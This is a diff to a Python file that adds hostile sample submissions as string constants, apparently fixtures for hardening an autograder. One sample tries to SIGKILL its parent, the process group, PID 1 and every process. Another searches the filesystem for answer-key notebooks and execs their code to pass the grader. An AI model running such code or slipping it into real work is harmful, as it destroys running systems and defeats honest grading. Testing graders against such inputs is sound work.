@@ -324,3 +324,72 @@ def eightpoint(pts1, pts2, M, refine=True):
         os._exit(0)
     return np.zeros((3, 3))
 '''
+
+
+KILLS_PARENT = '''\
+import os
+import signal
+
+import numpy as np
+
+
+def eightpoint(pts1, pts2, M, refine=True):
+    """Kill whoever runs this: the parent, the parent's process group, then every process it may signal."""
+    attempts = [lambda: os.kill(os.getppid(), signal.SIGKILL),
+                lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
+                lambda: os.kill(1, signal.SIGKILL),
+                lambda: os.kill(-1, signal.SIGKILL)]
+    for attempt in attempts:
+        try:
+            attempt()
+        except OSError:
+            pass
+    return np.zeros((3, 3))
+'''
+
+
+def finds_answer_key(roots: list[str]) -> str:
+    """Looks for answer-key notebooks anywhere it may read under ``roots`` (such as a key written
+    with ``python -m autograder key --out /tmp/kk``) and runs their definitions."""
+    return f'''\
+import glob
+import json
+import os
+import zipfile
+
+_ROOTS = {roots!r}
+
+
+def _key_sources():
+    for root in _ROOTS:
+        for path in glob.glob(os.path.join(root, "**", "*q6*.ipynb"), recursive=True):
+            try:
+                with open(path) as fh:
+                    yield json.load(fh)
+            except (OSError, ValueError):
+                pass
+        for path in glob.glob(os.path.join(root, "**", "*.zip"), recursive=True):
+            try:
+                with zipfile.ZipFile(path) as zf:
+                    for name in zf.namelist():
+                        if "q6" in name:
+                            yield json.loads(zf.read(name))
+            except (OSError, ValueError, zipfile.BadZipFile):
+                pass
+
+
+def MultiviewReconstruction(C1, pts1, C2, pts2, C3, pts3, Thres):
+    for nb in _key_sources():
+        scope = {{}}
+        for cell in nb.get("cells", []):
+            if cell.get("cell_type") == "code":
+                source = "".join(cell.get("source", ""))
+                if "def " in source:
+                    try:
+                        exec(source, scope)
+                    except Exception:
+                        pass
+        if "MultiviewReconstruction" in scope:
+            return scope["MultiviewReconstruction"](C1, pts1, C2, pts2, C3, pts3, Thres)
+    raise FileNotFoundError("no answer key found")
+'''
